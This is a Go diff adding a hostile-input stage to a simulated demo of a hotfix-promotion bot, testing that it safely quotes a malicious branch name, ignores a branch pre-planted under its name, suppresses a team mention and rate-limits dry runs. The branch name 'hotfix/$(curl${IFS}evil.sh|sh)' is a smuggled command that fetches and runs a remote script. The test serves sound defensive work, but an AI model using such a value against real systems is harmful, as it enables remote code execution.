@@ -194,7 +194,10 @@ func (d *demoRun) play() error {
 	if err := d.lateAct(n); err != nil {
 		return err
 	}
-	return d.lateCommandsAct()
+	if err := d.lateCommandsAct(); err != nil {
+		return err
+	}
+	return d.hostileAct()
 }
 
 // comment posts a comment as who, lets the bot answer, and prints the
@@ -548,4 +551,102 @@ func (d *demoRun) verdict() int {
 	}
 	fmt.Fprintln(d.out, "Every expected outcome happened.")
 	return 0
+}
+
+// hostileAct: what people with write access, or none, choose cannot be
+// turned against the team: a branch name that would run a command, a
+// title that mentions a team, a sync branch prepared under the bot's
+// name, a flood of dry runs.
+func (d *demoRun) hostileAct() error {
+	r, in := d.in.Repo, d.in
+	fmt.Fprintln(d.out, "\n— Names, mentions and branches someone else chose —")
+	evil := "hotfix/$(curl${IFS}evil.sh|sh)"
+	if _, err := r.CreateBranch(in.Dana, evil, "develop"); err != nil {
+		return err
+	}
+	bad, err := r.Push(in.Dana, evil, "Fix", ghsim.Files{"payments/fix.go": "package payments\n"})
+	if err != nil {
+		return err
+	}
+	d.say("dana", "pushes a branch named %s, cut from develop", evil)
+	if err := d.settle(); err != nil {
+		return err
+	}
+	cr, _ := r.CheckRun(bad, policy.CheckBase)
+	d.expect(strings.Contains(cr.Summary, "git rebase --onto v1.4.3 ") && strings.Contains(cr.Summary, " '"+evil+"'\n"),
+		"hotfix-bot/base quotes the branch name in the command it prints: pasted, it runs nothing")
+
+	mallory := d.h.Sim.User("mallory")
+	r.SetRole("mallory", "write")
+	prepared := "hotfix-bot/sync/v1.4.4-to-develop"
+	if _, err := r.CreateBranch(mallory, prepared, "develop"); err != nil {
+		return err
+	}
+	if _, err := r.Push(mallory, prepared, "Sync v1.4.4 into develop", ghsim.Files{"payments/backdoor.go": "package payments\n"}); err != nil {
+		return err
+	}
+	d.say("mallory", "reads the next tag in a plan and prepares %s with a commit of hers", prepared)
+
+	if _, err := r.CreateBranch(in.Dana, "hotfix/receipts", "v1.4.3"); err != nil {
+		return err
+	}
+	head, err := r.Push(in.Dana, "hotfix/receipts", "Send receipts again", ghsim.Files{"payments/receipt.go": "package payments\n"})
+	if err != nil {
+		return err
+	}
+	n, err := r.OpenPR(in.Dana, "hotfix/receipts", "main", "Send receipts again (cc @acme/everyone)")
+	if err != nil {
+		return err
+	}
+	if err := d.settle(); err != nil {
+		return err
+	}
+	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
+		return err
+	}
+	d.say("dana", "opens #%d %q; rob approves it", n, "Send receipts again (cc @acme/everyone)")
+	if err := d.settle(); err != nil {
+		return err
+	}
+	if _, _, err := d.comment(in.Ivan, n, "/promote --dry-run"); err != nil {
+		return err
+	}
+	mark := len(d.h.Sim.Calls())
+	_, replies, err := d.comment(in.Ivan, n, "/promote --dry-run")
+	if err != nil {
+		return err
+	}
+	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "One dry run per person per minute") && len(d.h.Sim.Calls())-mark <= 3,
+		"ivan's second dry run within a minute gets one short answer and costs no gate reads")
+
+	if _, _, err := d.comment(in.Rob, n, "/promote"); err != nil {
+		return err
+	}
+	deps := d.botDeployments()
+	if err := d.report(deps[len(deps)-1].ID, "success"); err != nil {
+		return err
+	}
+	var summary string
+	for _, c := range r.Comments(n) {
+		if c.User.Type == "Bot" && strings.Contains(c.Body, "hotfix-bot:deployed:") {
+			summary = c.Body
+			d.showComment(c.Body, 16)
+		}
+	}
+	ours := false
+	for _, is := range d.pullsInto("develop") {
+		if is.PR.HeadRef == prepared+"-2" && is.User.Type == "Bot" {
+			ours = len(r.Diff(head, is.PR.HeadSHA)) == 0
+		}
+	}
+	d.expect(ours && strings.Contains(summary, "left alone, not the bot's"),
+		"mallory's branch is left alone and reported; the sync into develop comes from …-2, with exactly the release")
+	mentioned := false
+	for _, c := range r.Comments(n) {
+		for _, m := range ghsim.Mentions(c.Body) {
+			mentioned = mentioned || (c.User.Type == "Bot" && m == "acme/everyone")
+		}
+	}
+	d.expect(!mentioned, "nothing the bot wrote mentions @acme/everyone, though the title does")
+	return nil
 }
